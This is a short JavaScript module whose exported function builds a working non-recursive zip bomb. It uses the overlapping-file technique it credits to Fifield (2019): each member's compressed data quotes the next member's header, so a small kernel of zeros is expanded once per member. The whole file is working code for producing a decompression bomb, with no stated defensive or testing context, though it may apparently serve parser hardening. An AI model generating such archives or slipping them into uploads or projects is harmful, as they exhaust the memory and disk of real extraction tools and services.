// A zip bomb of one layer: what deflate can reach, as many times as there are members.

import { crc32, deflateRawSync } from 'node:zlib';

/**
 * An archive of members whose data each quote the local header of the next one in a stored block and go on with its
 * data: as many times the last one's bytes as there are members (Fifield, 2019).
 * @param {number} count @param {number} size
 */
export function quotingArchive(count, size) {
  const kernel = deflateRawSync(new Uint8Array(size));
  const files = [];
  /** What is quoted, and what follows it. */
  let next = { local: Buffer.alloc(0), plain: Buffer.alloc(size), deflated: kernel };
  for (let k = count - 1; k >= 0; k -= 1) {
    const block = storedBlock(next.local.length);
    const plain = Buffer.concat([next.local, next.plain]);
    const deflated = Buffer.concat([block, next.local, next.deflated]);
    const file = {
      name: Buffer.from(`${k}`),
      crc32: crc32(plain),
      size: plain.length,
      compressedSize: deflated.length,
    };
    const local = Buffer.concat([header(0x04034b50, 30, file, 18, 26), file.name]);
    files.unshift({ ...file, bytes: Buffer.concat([local, block]) });
    next = { local, plain, deflated };
  }
  let at = 0;
  const records = files.map((file) => {
    const record = header(0x02014b50, 46, file, 20, 28);
    record.writeUInt32LE(at, 42);
    at += file.bytes.length;
    return Buffer.concat([record, file.name]);
  });
  const directory = Buffer.concat(records);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at + kernel.length, 16);
  const bytes = files.map((file) => file.bytes);
  return new Uint8Array(Buffer.concat([...bytes, kernel, directory, end]));
}

/** RFC 1951 3.2.4: the header of a block that is not the last, of so many bytes. */
function storedBlock(length) {
  const block = Buffer.alloc(length === 0 ? 0 : 5);
  if (length === 0) return block;
  block.writeUInt16LE(length, 1);
  block.writeUInt16LE(length ^ 0xffff, 3);
  return block;
}

/** Both kinds of headers have CRC-32, sizes and the length of the name in the same order. */
function header(signature, length, file, sizesAt, nameAt) {
  const bytes = Buffer.alloc(length);
  bytes.writeUInt32LE(signature, 0);
  bytes.writeUInt16LE(8, sizesAt - 10);
  bytes.writeUInt32LE(file.crc32, sizesAt - 4);
  bytes.writeUInt32LE(file.compressedSize, sizesAt);
  bytes.writeUInt32LE(file.size, sizesAt + 4);
  bytes.writeUInt16LE(file.name.length, nameAt);
  return bytes;
}
